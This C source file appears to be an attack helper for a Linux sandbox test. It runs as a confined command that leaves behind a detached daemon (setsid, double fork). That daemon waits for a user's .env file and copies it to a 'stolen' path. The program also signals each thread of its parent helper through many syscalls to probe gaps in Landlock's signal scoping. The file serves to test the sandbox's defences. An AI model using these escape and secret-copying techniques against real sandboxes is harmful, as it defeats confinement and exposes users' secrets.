// A confined command that goes after the sandbox helper that started it
// (sandbox_helper_attack_linux_test.go). It leaves a daemon behind
// (setsid, double fork) that waits for a .env the user makes later, then
// signals every thread of the helper one by one (tgkill): the thread that
// forked the command shares the command's Landlock domain, so the signal
// scope does not stop a signal aimed at it, and SIGKILL or SIGSTOP on one
// thread takes the whole helper, which would kill the daemon when the
// command ends. Usage: killhelper SIG ENVFILE STOLEN PIDFILE
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static void daemonize(const char *env, const char *stolen, const char *pidfile) {
	if (fork() != 0)
		return;
	setsid();
	if (fork() != 0)
		_exit(0);
	FILE *f = fopen(pidfile, "w");
	if (f) {
		fprintf(f, "%d", getpid());
		fclose(f);
	}
	for (int i = 0; i < 1200; i++) { // two minutes at most
		int fd = open(env, O_RDONLY);
		if (fd >= 0) {
			char buf[256];
			ssize_t n = read(fd, buf, sizeof buf);
			if (n > 0) {
				int out = open(stolen, O_WRONLY | O_CREAT | O_TRUNC, 0644);
				if (out >= 0) {
					write(out, buf, n);
					close(out);
				}
				_exit(0);
			}
			close(fd);
		}
		usleep(100000);
	}
	_exit(0);
}

static int hits;

// forker reports whether thread tid of the helper is the one the command
// was forked from: the only one with no_new_privs (and the filter).
static int forker(int helper, int tid) {
	char path[80], buf[4096];
	snprintf(path, sizeof path, "/proc/%d/task/%d/status", helper, tid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	return strstr(buf, "NoNewPrivs:\t1") != NULL;
}

static void report(const char *how, int tid, long r) {
	printf("%s %d: %s\n", how, tid, r == 0 ? "SIGNALLED" : strerror(errno));
	if (r == 0)
		hits++;
}

// fown: the owner of a file gets its signal (F_SETSIG's, SIGIO by
// default) when the file is ready: a pipe with O_ASYNC, written to.
// how: 0 F_SETOWN, 1 F_SETOWN_EX, 2 ioctl FIOSETOWN, 3 ioctl SIOCSPGRP
// (the last two on a connected socket pair, which sockets without the
// network still make).
static long fown(int helper, int tid, int sig, int how) {
	int p[2];
	if ((how >= 2 ? socketpair(AF_UNIX, SOCK_STREAM, 0, p) : pipe(p)) != 0)
		return -1;
	long r;
	if (how >= 2) {
		r = ioctl(p[0], how == 2 ? FIOSETOWN : SIOCSPGRP, &tid);
	} else if (how == 1) {
		struct f_owner_ex o = {F_OWNER_TID, tid};
		r = fcntl(p[0], F_SETOWN_EX, &o);
	} else {
		r = fcntl(p[0], F_SETOWN, tid);
	}
	if (r == 0 && fcntl(p[0], F_SETSIG, sig) == 0 && fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK) == 0)
		r = write(p[1], "x", 1) == 1 ? 0 : -1;
	close(p[0]);
	close(p[1]);
	(void)helper;
	return r;
}

int main(int argc, char **argv) {
	if (argc != 5)
		return 2;
	int sig = atoi(argv[1]);
	daemonize(argv[2], argv[3], argv[4]);
	pid_t helper = getppid();
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/task", helper);
	DIR *d = opendir(path);
	if (!d) {
		printf("no task list of %d: %s\n", helper, strerror(errno));
		return 1;
	}
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		int tid = atoi(e->d_name);
		if (tid <= 0)
			continue;
		report("tgkill", tid, syscall(SYS_tgkill, helper, tid, sig));
		report("tkill", tid, syscall(SYS_tkill, tid, sig));
		// kill(2) with a thread's id signals its whole process.
		report("kill", tid, syscall(SYS_kill, tid, sig));
		siginfo_t si = {0};
		si.si_code = SI_QUEUE;
		si.si_pid = getpid();
		si.si_uid = getuid();
		report("rt_sigqueueinfo", tid, syscall(SYS_rt_sigqueueinfo, tid, sig, &si));
		report("rt_tgsigqueueinfo", tid, syscall(SYS_rt_tgsigqueueinfo, helper, tid, sig, &si));
		int fd = syscall(SYS_pidfd_open, tid, O_EXCL /* PIDFD_THREAD */);
		report("pidfd_open", tid, fd >= 0 ? syscall(SYS_pidfd_send_signal, fd, sig, NULL, 0) : -1);
		if (fd >= 0)
			close(fd);
		// A /proc/<tid> directory is a pidfd for pidfd_send_signal.
		snprintf(path, sizeof path, "/proc/%d", tid);
		fd = open(path, O_RDONLY | O_DIRECTORY);
		report("proc-pidfd", tid, fd >= 0 ? syscall(SYS_pidfd_send_signal, fd, sig, NULL, 0) : -1);
		if (fd >= 0)
			close(fd);
		// An owner is set for any thread; the signal is checked when it
		// is sent (Landlock drops it for threads outside the domain), so
		// a set owner counts for the forking thread only.
		int mine = forker(helper, tid);
		printf("thread %d: %s\n", tid, mine ? "forked the command" : "outside the domain");
		long r = fown(helper, tid, sig, 0);
		report("f_setown", tid, mine || r != 0 ? r : (errno = EPERM, -1));
		r = fown(helper, tid, sig, 1);
		report("f_setown_ex", tid, mine || r != 0 ? r : (errno = EPERM, -1));
		r = fown(helper, tid, sig, 2);
		report("fiosetown", tid, mine || r != 0 ? r : (errno = EPERM, -1));
		r = fown(helper, tid, sig, 3);
		report("siocspgrp", tid, mine || r != 0 ? r : (errno = EPERM, -1));
	}
	closedir(d);
	fflush(stdout);
	sleep(1);
	printf("COMMAND-ENDS hits=%d\n", hits);
	return 0;
}
